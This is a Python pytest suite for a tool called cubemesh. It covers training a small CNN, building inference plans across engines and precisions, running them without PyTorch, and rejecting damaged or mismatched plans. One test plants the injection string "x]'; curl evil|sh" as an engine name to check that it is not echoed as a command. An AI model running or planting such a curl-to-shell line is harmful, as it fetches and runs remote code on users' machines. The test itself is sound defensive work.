"""A user's path: train, build, run without PyTorch, and plans that do not fit or are damaged."""

import errno
import itertools
import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

import cubemesh
from cubemesh import Plan, build_plan, classify_images, export_network, infer_plan
from cubemesh.cli import app
from cubemesh.errors import AccuracyError, BusyError, CubemeshError, DataError, UsageError
from cubemesh.inference import device, runtime
from cubemesh.inference.plan_file import PlanDevice, read_plan, write_plan
from cubemesh.inference.runtime import cheapest_split
from cubemesh.networks.builder import NetworkBuilder
from cubemesh.onnx.engines import EngineError
from cubemesh.onnx.export import export
from cubemesh.onnx.graph import BATCH, Graph, Operator, Value
from cubemesh.onnx.writer import serialized
from cubemesh.runs.locks import DeviceLocks
from onnx_graphs import session_of

pytest.importorskip("onnx")
pytest.importorskip("onnxruntime")
pytest.importorskip("openvino")
torch = pytest.importorskip("torch")
FAST = {"seconds": 0.01, "threads": 1}
"""Settings of a build whose choice does not matter: a second thread would wait for work, busily."""
ONE_ENGINE = {**FAST, "engines": ["onnxruntime"]}
"""Settings of a build in which it does not matter either which engine runs a network."""


@pytest.fixture(scope="module", autouse=True)
def own_locks(tmp_path_factory):
    """Locks that no other worker of the tests holds."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_RUNTIME_DIR", str(tmp_path_factory.mktemp("locks")))
        yield


@pytest.fixture(scope="module")
def trained(tmp_path_factory, own_locks):
    """A folder with the checkpoints of LittleCNN, trained on the digits."""
    folder = tmp_path_factory.mktemp("trained")
    cubemesh.train(
        "little-cnn",
        settings={
            "checkpoints": str(folder / "ck"),
            "epochs": "1",
            "framework": "pytorch",
            "image_size": "8",
            "threads": "1",  # steps so small take twice the processor time on two
        },
        store=str(folder / "s.sqlite"),
    )
    return folder / "ck"


@pytest.fixture(scope="module")
def built(trained, tmp_path_factory):
    """Its plan in all precisions, with the timing record."""
    folder = tmp_path_factory.mktemp("built")
    done = build_plan(
        file=folder / "digits.plan",
        checkpoints=trained,
        accuracy=0.9,
        batches=(1, 4),
        timing_record=folder / "timing.json",
        **FAST,
    )
    return Path(done.file), done


@pytest.fixture(scope="module")
def fp32(trained, tmp_path_factory):
    """Its plan in fp32."""
    file = tmp_path_factory.mktemp("fp32") / "digits.plan"
    build_plan(file=file, checkpoints=trained, batches=(1, 4), **ONE_ENGINE)
    return file


def images(samples, seed=0):
    return np.random.default_rng(seed).random((samples, 3, 8, 8), np.float32)


def test_scores_in_a_process_without_pytorch_are_those_of_training(trained, fp32, tmp_path):
    np.save(tmp_path / "images.npy", images(7))
    program = """
import sys
import numpy as np
from cubemesh import Plan
with Plan.load(sys.argv[1], threads=1) as plan:
    np.save(sys.argv[3], plan.run(np.load(sys.argv[2])))
assert "torch" not in sys.modules and "onnx" not in sys.modules, "only the engine is imported"
"""
    arguments = [str(fp32), str(tmp_path / "images.npy"), str(tmp_path / "scores.npy")]
    subprocess.run([sys.executable, "-c", program, *arguments], check=True)
    export_network(file=tmp_path / "digits.onnx", checkpoints=trained)
    (wanted,) = session_of(tmp_path / "digits.onnx").run(None, {"image": images(7)})
    found = np.load(tmp_path / "scores.npy")
    assert found.shape == wanted.shape
    assert np.abs(found - wanted).max() <= 1e-4 * np.abs(wanted).max()


def test_every_precision_has_its_evidence(built):
    document = built[1].document
    assert {p.precision for p in document.proofs} - {"bf16"} == {"int8"}  # not all CPUs have bf16
    for proof in document.proofs:
        assert proof.samples == 359
        assert proof.right == proof.reference_right - proof.lost + proof.gained
    accepted = {(p.model, p.precision, p.engine) for p in document.proofs if p.accepted}
    tried = {(t.model, t.precision, t.engine) for t in document.trials if t.precision != "fp32"}
    assert tried <= accepted
    assert {t.engine for t in document.trials} - {"cpu-int8"} == {"onnxruntime", "openvino"}
    assert [choice.batch for choice in document.choices] == [1, 4]
    assert "256 samples for calibration, 359 of its validation samples" in document.samples


def test_the_same_timing_record_makes_the_same_bytes(trained, built, tmp_path):
    path, _ = built
    again = build_plan(
        file=tmp_path / "again.plan",
        checkpoints=trained,
        accuracy=0.9,
        batches=(1, 4),
        timing_record=path.parent / "timing.json",
        **FAST,
    )
    assert Path(again.file).read_bytes() == path.read_bytes()


def test_any_number_of_samples(fp32):
    with Plan.load(fp32, threads=1) as plan:
        every = plan.run(images(9))
        assert every.shape == (9, 10)
        for count in (1, 2, 3, 8):
            part = plan.run(images(9)[:count])
            assert np.abs(part - every[:count]).max() <= 1e-4 * np.abs(every).max()


def test_samples_are_split_into_the_cheapest_batches():
    seconds = ((1, 1.0), (4, 2.0), (16, 7.0))
    assert cheapest_split(seconds, 1) == (1,)
    assert cheapest_split(seconds, 2) == (4,)  # two are computed for nothing
    assert cheapest_split(seconds, 5) == (4, 1)
    assert cheapest_split(seconds, 16) == (16,)
    assert cheapest_split(((1, 1.0), (8, 9.0)), 8) == (1,) * 8
    assert cheapest_split(seconds, 0) == ()


def test_inputs_that_do_not_fit(built):
    with Plan.load(built[0], threads=1) as plan:
        with pytest.raises(UsageError, match=r"image has the shape 2×1×8×8, and n×3×8×8 is needed"):
            plan.run(np.zeros((2, 1, 8, 8), np.float32))
        with pytest.raises(UsageError, match="The inputs of little-cnn are image; given: picture"):
            plan.run({"picture": images(1)})
        with pytest.raises(UsageError, match="at least one"):
            plan.run(images(0))


def test_image_files_are_classified_with_the_names_of_the_training_data(
    trained, fp32, tmp_path, monkeypatch
):
    image = pytest.importorskip("PIL.Image")
    files = []
    for number, pixels in enumerate(images(3)):
        files.append(tmp_path / f"{number}.png")
        image.fromarray(np.moveaxis((pixels * 255).astype(np.uint8), 0, 2)).save(files[-1])
    found = classify_images(fp32, files, top=3, threads=1)
    assert found.network == "little-cnn"
    assert [[c.name for c in one.classes] for one in found.images] == [
        [str(c.index) for c in one.classes] for one in found.images
    ]
    same = classify_images(trained, files, top=3, threads=1)
    assert "checkpoint after step" in same.weights
    for one, other in zip(found.images, same.images, strict=True):
        assert [c.name for c in one.classes] == [c.name for c in other.classes]
        assert one.classes[0].probability == pytest.approx(other.classes[0].probability, rel=1e-3)
    named = classify_images(fp32, files[:1], class_names=["x"] * 10, top=2, threads=1)
    assert [c.name for c in named.images[0].classes] == ["x", "x"]
    with pytest.raises(UsageError, match="--step 3 is of a folder"):
        classify_images(fp32, files, step=3)
    shown = CliRunner().invoke(
        app,
        ["infer", str(fp32), "--image", str(files[0]), "--top", "2", "--threads", "1", "--json"],
    )
    (image_found,) = json.loads(shown.stdout)["images"]
    assert [c["name"] for c in image_found["classes"]] == [
        c.name for c in found.images[0].classes[:2]
    ]
    (tmp_path / "text.png").write_text("no image")
    missed = CliRunner().invoke(
        app, ["infer", str(fp32), "--image", str(tmp_path / "text.png"), "--threads", "1"]
    )
    assert missed.exit_code == 1
    assert "not classified" in missed.stdout
    refused = CliRunner().invoke(app, ["infer", str(fp32), "--top", "2"])
    assert "add --image FILE" in str(refused.exception)
    monkeypatch.setattr("cubemesh.api.inference.of_device", lambda kind: ())
    with pytest.raises(UsageError, match="ONNX Runtime or OpenVINO"):
        classify_images(trained, files)


def elsewhere(monkeypatch, **changes):
    """Another machine."""
    here = replace(device.this_device(1), **changes)
    monkeypatch.setattr(runtime, "this_device", lambda threads=None, device="cpu": here)
    monkeypatch.setattr(
        "cubemesh.inference.build.this_device", lambda threads=None, device="cpu": here
    )


def test_a_plan_of_another_machine_is_refused_and_built_again(built, tmp_path, monkeypatch):
    path, done = built
    elsewhere(monkeypatch, cpu="Another CPU")
    with pytest.raises(DataError, match=rf"and this is Another CPU.*cubemesh build --from {path}"):
        Plan.load(path, threads=1)
    again = build_plan(file=tmp_path / "here.plan", from_plan=path, **FAST)
    assert again.document.device.cpu == "Another CPU"
    assert again.document.proofs == done.document.proofs
    assert [choice.batch for choice in again.document.choices] == [1, 4]
    with Plan.load(again.file, threads=1) as plan:
        assert plan.run(images(2)).shape == (2, 10)


def test_bytes_are_not_added_where_they_saturate(built, tmp_path, monkeypatch):
    lines = []
    document, models = read_plan(built[0])
    vnni = replace(document, device=replace(document.device, instruction_sets=("avx512_vnni",)))
    write_plan(tmp_path / "vnni.plan", vnni, models)
    elsewhere(monkeypatch, instruction_sets=("avx2",))
    again = build_plan(
        file=tmp_path / "here.plan", from_plan=tmp_path / "vnni.plan", tell=lines.append, **FAST
    )
    assert {t.precision for t in again.document.trials} <= {"fp32", "bf16"}
    assert "sums of bytes saturate" in lines[0]


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"instruction_sets": ()}, "the processor lacks "),
        ({"threads": 99}, "threads, and 99 are used"),
    ],
)
def test_what_differs_is_named(built, monkeypatch, changes, sentence):
    elsewhere(monkeypatch, **changes)
    with pytest.raises(DataError, match=sentence):
        Plan.load(built[0], threads=1)


def test_another_version_of_the_engine(built, tmp_path):
    document, models = read_plan(built[0])
    older = replace(document, trials=tuple(replace(t, version="0.1") for t in document.trials))
    write_plan(tmp_path / "old.plan", older, models)
    with pytest.raises(DataError, match=r"it was built with .* 0\.1, and this is "):
        Plan.load(tmp_path / "old.plan", threads=1)


def test_an_unknown_engine_is_named_without_a_command(built, tmp_path):
    document, models = read_plan(built[0])
    trials = tuple(replace(t, engine="x]'; curl evil|sh") for t in document.trials)
    write_plan(tmp_path / "other.plan", replace(document, trials=trials), models)
    with pytest.raises(DataError, match="no engine of this cubemesh") as caught:
        Plan.load(tmp_path / "other.plan", threads=1)
    assert "pip install" not in str(caught.value)


def test_places_of_models_are_whole_numbers(built, tmp_path):
    content, path = built[0].read_bytes(), tmp_path / "floats.plan"
    begin = 8 + int.from_bytes(content[:8], "little")
    header = json.loads(content[8:begin])
    for name, array in header.items():
        if name != "__metadata__":
            array["data_offsets"] = [float(place) for place in array["data_offsets"]]
    text = json.dumps(header).encode()
    path.write_bytes(len(text).to_bytes(8, "little") + text + content[begin:])
    with pytest.raises(DataError, match="other arrays than models"):
        Plan.load(path, threads=1)


def test_damaged_plans_get_a_sentence(built, tmp_path):
    content, path = built[0].read_bytes(), tmp_path / "damaged.plan"
    rng = np.random.default_rng(0)
    cuts = [content[: int(n)] for n in rng.integers(0, len(content), 12)]
    flips = []
    for position in (*rng.integers(0, 20_000, 12), *rng.integers(0, len(content), 12)):
        damaged = bytearray(content)
        damaged[int(position)] ^= 1 << int(rng.integers(8))
        flips.append(bytes(damaged))
    for damaged in (*cuts, *flips, b"", b"{}"):
        path.write_bytes(damaged)
        with pytest.raises(DataError, match=r"damaged.plan'.*\.$"):
            Plan.load(path, threads=1)


def test_nothing_of_a_loaded_plan_is_left_in_files(built, tmp_path, monkeypatch):
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(folder))
    copy = tmp_path / "copy.plan"
    copy.write_bytes(built[0].read_bytes())
    with Plan.load(built[0], threads=1) as wanted, Plan.load(copy, threads=1) as plan:
        assert list(folder.iterdir()) == []
        copy.write_bytes(b"another")
        assert np.array_equal(plan.run(images(5)), wanted.run(images(5)))


def test_no_space_for_the_models_is_one_sentence(built, tmp_path, monkeypatch):
    def full(*arguments):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("os.sendfile", full)
    with pytest.raises(UsageError, match=r"No space left on device\. Set TMPDIR to a folder with"):
        Plan.load(built[0], threads=1)


def test_plans_that_lie_are_refused(built, tmp_path):
    document, models = read_plan(built[0])
    path = tmp_path / "lie.plan"
    lies = {
        "a choice refers to no trial": replace(document, chosen=(999,)),
        "no choice or no input": replace(document, chosen=()),
        "not in ascending order": replace(document, chosen=document.chosen[::-1]),
        "was not measured": replace(
            document, trials=tuple(replace(t, seconds=None) for t in document.trials)
        ),
        "a plan of format 99": replace(document, format=99),
        "it lacks the model other": replace(
            document, trials=tuple(replace(t, model="other") for t in document.trials)
        ),
        "has no batch axis": replace(
            document, inputs=tuple(replace(v, shape=()) for v in document.inputs)
        ),
    }
    for sentence, lie in lies.items():
        write_plan(path, lie, models)
        with pytest.raises(DataError, match=sentence):
            Plan.load(path, threads=1)
    from cubemesh.training.checkpoint import write_arrays

    write_arrays(path, {"x": np.zeros(1)}, {})
    with pytest.raises(DataError, match="not a plan of cubemesh"):
        Plan.load(path, threads=1)
    write_arrays(path, {"x": np.zeros(1)}, {"cubemesh.plan": json.dumps({"format": 1})})
    with pytest.raises(DataError, match="not a valid plan"):
        Plan.load(path, threads=1)


def test_a_model_that_no_builder_writes_reaches_no_engine(built, tmp_path, monkeypatch):
    document, models = read_plan(built[0])

    def opened(*arguments, **settings):
        raise AssertionError("an engine saw the model")

    for engine in ("onnxruntime", "openvino"):
        monkeypatch.setattr(f"cubemesh.onnx.engines.{engine}.open_session", opened)
    write_plan(tmp_path / "odd.plan", document, dict.fromkeys(models, b"no model"))
    with pytest.raises(DataError, match=r"its model .* cannot be used: .*\.$"):
        Plan.load(tmp_path / "odd.plan", threads=1)


def test_a_model_that_its_engine_cannot_read_is_one_sentence(built, tmp_path):
    """Of a good form, and with a product of lengths that do not fit."""
    document, models = read_plan(built[0])
    graph = Graph(
        name="little-cnn",
        opset=20,
        inputs=document.inputs,
        outputs=(Value(name="scores", dtype="float32", shape=(BATCH, 10)),),
        operators=(Operator(kind="MatMul", inputs=("image", "weight"), outputs=("scores",)),),
        constants={"weight": np.zeros((7, 10), np.float32)},
    )
    write_plan(tmp_path / "odd.plan", document, dict.fromkeys(models, serialized(graph)))
    engines = "OpenVINO|ONNX Runtime|cubemesh's INT8 kernels"
    with pytest.raises(EngineError, match=rf"^({engines}) cannot run little-cnn: .*\.$"):
        Plan.load(tmp_path / "odd.plan", threads=1)


def test_an_engine_that_cannot_run_a_network_is_left_out(onnx_file, tmp_path, monkeypatch):
    def refuse(content, **settings):
        raise RuntimeError("opset not\nimplemented")

    monkeypatch.setattr("cubemesh.onnx.engines.openvino.open_session", refuse)
    lines = []
    done = build_plan(str(onnx_file), tmp_path / "tiny.plan", tell=lines.append, **FAST)
    assert {t.engine for t in done.document.trials} == {"onnxruntime"}
    assert "OpenVINO cannot run tiny: opset not implemented." in lines
    with pytest.raises(EngineError, match="OpenVINO cannot run tiny"):
        build_plan(str(onnx_file), tmp_path / "x.plan", engines=["openvino"], **FAST)


def test_a_file_that_is_not_there(tmp_path):
    with pytest.raises(UsageError, match=r"is not a file. `cubemesh build NETWORK` makes a plan"):
        Plan.load(tmp_path / "no.plan")


def small_network(name="tiny"):
    net = NetworkBuilder(name)
    x = net.relu(net.conv(net.input("image", (1, 6, 6)), 4, kernel=3))
    net.classify(net.linear(net.flatten(x), 3))
    return net.build()


@pytest.fixture
def onnx_file(tmp_path):
    network = small_network()
    export(network, network.draw(0), tmp_path / "tiny.onnx")
    return tmp_path / "tiny.onnx"


def samples_file(path, count, labels=None, **arrays):
    arrays = arrays or {"image": np.random.default_rng(1).random((count, 1, 6, 6), np.float32)}
    np.savez(path, **arrays, **({} if labels is None else {"labels": labels}))
    return path


def test_an_onnx_file_and_samples_without_labels(onnx_file, tmp_path):
    samples = samples_file(tmp_path / "samples.npz", 64)
    done = build_plan(
        str(onnx_file), tmp_path / "tiny.plan", accuracy=0.99, samples=samples, **ONE_ENGINE
    )
    assert done.document.source == "ONNX file tiny.onnx"
    assert {p.verdict for p in done.document.proofs} <= {"agrees", "differs"}
    assert all(p.samples == 32 for p in done.document.proofs)  # the others served calibration
    measured = infer_plan(
        done.file,
        samples=samples,
        output=tmp_path / "scores.npz",
        iterations=150,
        warm_up=0.0,
        threads=1,
    )
    assert measured.iterations == 150
    assert measured.latencies["p50"].value <= measured.latencies["p99"].value
    assert np.load(tmp_path / "scores.npz")["scores"].shape == (64, 3)


def test_accuracy_that_no_model_keeps(onnx_file, tmp_path):
    """Samples on the border of two classes, with fp32's decisions as labels: rounding changes some
    of them, and every right answer is asked for."""
    image = np.random.default_rng(1).normal(size=(5000, 1, 6, 6)).astype(np.float32)
    fp32 = build_plan(str(onnx_file), tmp_path / "fp32.plan", **ONE_ENGINE)
    with Plan.load(fp32.file, threads=1) as plan:
        scores = np.sort(plan.run(image), axis=1)
        closest = np.argsort(scores[:, -1] - scores[:, -2])[:400]
        image = image[closest[::-1]]  # the last ones are for the proof
        labels = plan.run(image).argmax(axis=1)
    samples = samples_file(tmp_path / "s.npz", 400, labels, image=image)
    settings = {"accuracy": 1.0, "precisions": ["int8"], "samples": samples, **ONE_ENGINE}
    with pytest.raises(AccuracyError, match=r"No model of tiny keeps the accuracy: int8 in") as e:
        build_plan(str(onnx_file), tmp_path / "x.plan", **settings)
    assert e.value.exit_code == 99
    assert not (tmp_path / "x.plan").exists()
    done = build_plan(
        str(onnx_file), tmp_path / "x.plan", **{**settings, "precisions": ["fp32", "int8"]}
    )
    assert {t.precision for t in done.document.trials} == {"fp32"}


def test_what_a_build_needs_is_named(onnx_file, tmp_path, built):
    def refused(*arguments, **settings):
        with pytest.raises(CubemeshError, match=r"\S") as caught:
            build_plan(*arguments, file=tmp_path / "x.plan", **settings)
        return str(caught.value)

    assert "needs samples: --data NAME, or --samples FILE.npz" in refused(
        "little-cnn", accuracy=0.99
    )
    assert "Nearest: int8" in refused("little-cnn", precisions=["int9"])
    assert "'tensorrt' is not an engine" in refused("little-cnn", engines=["tensorrt"])
    assert "Batch sizes are 1 to 4096; given: 0" in refused("little-cnn", batches=[0])
    assert "not 1.5" in refused("little-cnn", accuracy=1.5)
    assert "--data digits needs a network of cubemesh" in refused(
        str(onnx_file), accuracy=0.9, data="digits"
    )
    assert "leave out --checkpoints" in refused(str(onnx_file), classes=3)
    assert "leave out the network" in refused("little-cnn", from_plan=built[0])
    assert "leave out the network" in refused(from_plan=built[0], image_size=32)
    assert "needs --data NAME" in refused("little-cnn", data_path="folder")
    assert "has no input picture" in refused(str(onnx_file), shapes={"picture": (1, 6, 6)})
    assert "1×6×6 for each sample, and 3×6×6 was given" in refused(
        str(onnx_file), shapes={"image": (3, 6, 6)}
    )
    both = {"data": "digits", "samples": tmp_path / "few.npz"}
    assert "leave one out" in refused("little-cnn", accuracy=0.9, **both)
    few = samples_file(tmp_path / "few.npz", 3)
    assert "at least 8; it has 3" in refused(str(onnx_file), accuracy=0.9, samples=few)
    other = samples_file(tmp_path / "other.npz", 0, picture=np.zeros((16, 1, 6, 6)))
    assert "has no array 'image'; it has 'picture'" in refused(
        str(onnx_file), accuracy=0.9, samples=other
    )
    (tmp_path / "text.npz").write_text("hello")
    assert "is not a file of arrays" in refused(
        str(onnx_file), accuracy=0.9, samples=tmp_path / "text.npz"
    )
    assert list(tmp_path.glob("*.plan")) == []


def test_the_times_of_each_run_are_in_the_fields_of_trtexec(onnx_file, tmp_path):
    done = build_plan(str(onnx_file), tmp_path / "tiny.plan", **ONE_ENGINE)
    file = tmp_path / "times.json"
    measured = infer_plan(
        done.file, iterations=5, percentiles=[60], export_times=file, threads=1, warm_up=0.0
    )
    runs = json.loads(file.read_text())
    assert len(runs) == 5
    assert runs[0]["startH2dMs"] == 0
    for run, following in itertools.pairwise(runs):
        assert run["endD2hMs"] <= following["startH2dMs"]
    for run in runs:
        assert run["startH2dMs"] == run["endH2dMs"] == run["startComputeMs"]
        assert run["endComputeMs"] == run["startD2hMs"] == run["endD2hMs"]
        assert (run["h2dMs"], run["d2hMs"]) == (0, 0)
        spent = run["endD2hMs"] - run["startH2dMs"]
        assert run["latencyMs"] == run["computeMs"] == pytest.approx(spent, abs=1e-5)
    longest = max(run["latencyMs"] for run in runs)
    assert measured.latencies["max"].value == pytest.approx(longest / 1e3, abs=1e-8)
    assert set(measured.latencies) == {"min", "mean", "p50", "p60", "max"}
    with pytest.raises(UsageError, match="cannot be written: Is a directory"):
        infer_plan(done.file, iterations=1, export_times=tmp_path, threads=1)


def test_threads_belong_to_the_plan(onnx_file, tmp_path):
    done = build_plan(str(onnx_file), tmp_path / "one.plan", **{**ONE_ENGINE, "threads": 1})
    assert done.document.device == replace(device.this_device(), threads=1)
    assert isinstance(done.document.device, PlanDevice)
    measured = infer_plan(done.file, iterations=3, threads=1, warm_up=0.0)
    assert measured.iterations == 3


def test_products_of_one_input_are_tried_merged(tmp_path):
    net = NetworkBuilder("siblings")
    x = net.input("image", (3, 8, 8))
    parts = [net.relu(net.conv(x, filters, kernel=1)) for filters in (4, 6)]
    net.classify(net.linear(net.flatten(net.concat(*parts)), 3))
    network = net.build()
    export(network, network.draw(0), tmp_path / "siblings.onnx")
    done = build_plan(str(tmp_path / "siblings.onnx"), tmp_path / "siblings.plan", **ONE_ENGINE)
    models = {t.model for t in done.document.trials}
    assert models == {"fp32", "fp32-siblings"}
    assert read_plan(Path(done.file))[1].keys() == models


def test_a_build_refuses_to_measure_beside_another_run(onnx_file, tmp_path):
    locks = DeviceLocks()
    locks.take("cpu")
    try:
        with pytest.raises(BusyError, match="The CPU is in use by process"):
            build_plan(str(onnx_file), tmp_path / "x.plan", **FAST)
    finally:
        locks.close()
    assert not (tmp_path / "x.plan").exists()
